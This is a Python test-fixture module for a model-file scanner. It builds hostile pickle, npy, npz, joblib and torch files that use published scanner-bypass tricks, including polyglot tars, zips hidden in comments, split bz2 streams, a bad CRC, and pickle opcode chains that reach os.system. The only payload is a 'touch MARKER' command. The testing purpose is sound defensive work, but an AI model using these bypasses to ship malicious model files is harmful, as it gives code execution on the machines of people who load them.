"""Hostile files built to the published bypass classes of pickle scanners (2025-26), and to ours.

Each runs its payload (``touch MARKER``) when loaded by the loader named
with it: ``test_scan_bypasses`` proves that in a child process before it
checks that the scanner refuses the file. Built here, byte by byte, with the
standard library, numpy and zipfile; the TorchScript one with torch (see
``data/hostile``).
"""

from __future__ import annotations

import bz2
import io
import os
import pickle
import struct
import tarfile
import zlib
from pathlib import Path

from .modelfiles import JOBLIB_LOAD, NPY_LOAD, NPZ_LOAD, PICKLE_LOAD, ZIP_LOAD, Payload, Sample, _npy_object, _zip

HOSTILE = Path(__file__).resolve().parent / "data" / "hostile"
TORCH_LOAD = "import torch; torch.load(path, weights_only=False)"
JIT_LOAD = "import torch; torch.jit.load(path)"
PKGUTIL_LOAD = PICKLE_LOAD
STORAGE_NPZ_LOAD = "import numpy as np; dict(np.load(path, allow_pickle=True))"


def bypasses(marker: str) -> list[Sample]:
    evil = pickle.dumps(Payload(marker), protocol=2)
    return [
        # 1. A tar that is also a pickle: BINBYTES in the name field skips into the member's data.
        Sample("tar_polyglot.pkl", tar_polyglot(evil), PICKLE_LOAD),
        Sample("tar_polyglot.joblib", tar_polyglot(evil), JOBLIB_LOAD),
        Sample("tar_polyglot.npy", tar_polyglot(evil), NPY_LOAD),
        # 2. A second end record in the first one's comment: zipfile searches for it from the end.
        Sample("hidden_archive.pt", zip_in_comment({"archive/data.pkl": evil}), ZIP_LOAD),
        Sample("hidden_archive.npz", zip_in_comment({"a.npy": _npy_object(Payload(marker))}), NPZ_LOAD),
        # 3. A second bz2 stream: bz2.open and joblib read on into it, where the pickle's import sits.
        Sample("two_streams.joblib", bz2_two_streams(evil), JOBLIB_LOAD),
        # 4. An .npy whose dtype is spelled as numpy reads it, not as np.save writes it.
        Sample("spelled_object.npy", npy_with_descr("'object'", evil), NPY_LOAD),
        Sample("structured_object.npy", npy_with_descr("[('a', 'object')]", evil), NPY_LOAD),
        # A member named as a torch storage (read raw by torch) that np.load reads as an object array.
        Sample("storage_named.npz", _zip({"archive/data/0": _npy_object(Payload(marker))}), STORAGE_NPZ_LOAD),
        # Published classes the scanner already refused: an object field in a subarray, a bad CRC
        # (CVE-2025-10156: torch does not check it), a resolver that imports by a string (pkgutil, importlib).
        Sample("object_in_subarray.npy", npy_with_descr("[('a', '<f8'), ('b', 'O', (1,))]", evil), NPY_LOAD),
        Sample("bad_crc.pt", zip_bad_crc(evil), TORCH_LOAD),
        Sample("resolve_name.pkl", resolve_name_chain(f"touch {marker}"), PKGUTIL_LOAD),
        Sample("import_module.pkl", import_module_chain(f"touch {marker}"), PKGUTIL_LOAD),
    ]


def tar_polyglot(evil: bytes) -> bytes:
    """A valid tar whose first header reads as BINBYTES of a length that lands on ``evil`` inside the
    member's data (behind bytes that make the member itself look like no pickle)."""
    body = bytes(16) + evil
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo("BXXXX")
        info.size = len(body)
        tar.addfile(info, io.BytesIO(body))
    data = bytearray(out.getvalue())
    data[1:5] = struct.pack("<I", 512 + 16 - 5)  # BINBYTES' 4-byte length: from byte 5 to the payload
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\x00 " % sum(data[:512])
    with tarfile.open(fileobj=io.BytesIO(bytes(data))) as tar:
        assert tar.getmembers(), "still a tar for tarfile"
    return bytes(data)


def zip_in_comment(members: dict[str, bytes]) -> bytes:
    """A harmless zip whose comment is a whole second zip holding ``members``."""
    hidden = _zip(members)
    cover = bytearray(_zip({"archive/version": b"3\n"}))
    assert len(hidden) < 0xFFFF
    cover[-2:] = struct.pack("<H", len(hidden))
    return bytes(cover) + hidden


def bz2_two_streams(evil: bytes) -> bytes:
    """The pickle cut in two after its opcodes' harmless start: each half a bz2 stream of its own."""
    cut = evil.index(b"c")  # the GLOBAL opcode: what comes before it imports nothing
    return bz2.compress(evil[:cut]) + bz2.compress(evil[cut:])


def npy_with_descr(descr: str, evil: bytes) -> bytes:
    header = "{'descr': " + descr + ", 'fortran_order': False, 'shape': (1,), }"
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + evil


def zip_bad_crc(evil: bytes) -> bytes:
    data = bytearray(_zip({"archive/data.pkl": evil, "archive/version": b"3\n", "archive/byteorder": b"little"}))
    crc = struct.pack("<I", zlib.crc32(evil))
    at = data.find(crc)
    while at >= 0:  # the local header's and the central directory's
        data[at : at + 4] = b"\xde\xad\xbe\xef"
        at = data.find(crc, at + 1)
    return bytes(data)


def resolve_name_chain(cmd: str) -> bytes:
    """pkgutil.resolve_name("os:system")(cmd): a resolver every deny-list has to know about."""
    return b"\x80\x02cpkgutil\nresolve_name\nX\t\x00\x00\x00os:system\x85R" + _call(cmd)


def import_module_chain(cmd: str) -> bytes:
    """getattr(importlib.import_module("os"), "system")(cmd)."""
    return (
        b"\x80\x02cbuiltins\ngetattr\ncimportlib\nimport_module\nX\x02\x00\x00\x00os\x85R"
        b"X\x06\x00\x00\x00system\x86R" + _call(cmd)
    )


def _call(cmd: str) -> bytes:
    raw = cmd.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw + b"\x85R."


def torchscript_setstate() -> bytes:
    """A TorchScript module whose ``__setstate__`` writes a file (made by ``data/hostile/make_hostile.py``)."""
    return (HOSTILE / "torchscript_setstate.pt").read_bytes()


def bz2_raw_pickle_parts(evil: bytes) -> tuple[bytes, int, bytes]:
    """A bz2 stream whose raw bytes also unpickle: ``BZh91AY&SY`` is BINBYTES of ~825 MB, then ``evil``.

    Returned as (head, zero bytes, tail) so that a test can write it sparse and feed it without holding it.
    """
    stream = bz2.compress(pickle.dumps({"w": list(range(4))}, protocol=2), 9)
    length = struct.unpack("<I", stream[1:5])[0]
    gap = 5 + length - len(stream)
    assert gap > 0
    return stream, gap, evil


def write_sparse(path: Path, head: bytes, gap: int, tail: bytes) -> None:
    with open(path, "wb") as f:
        f.write(head)
        f.seek(gap, os.SEEK_CUR)
        f.write(tail)
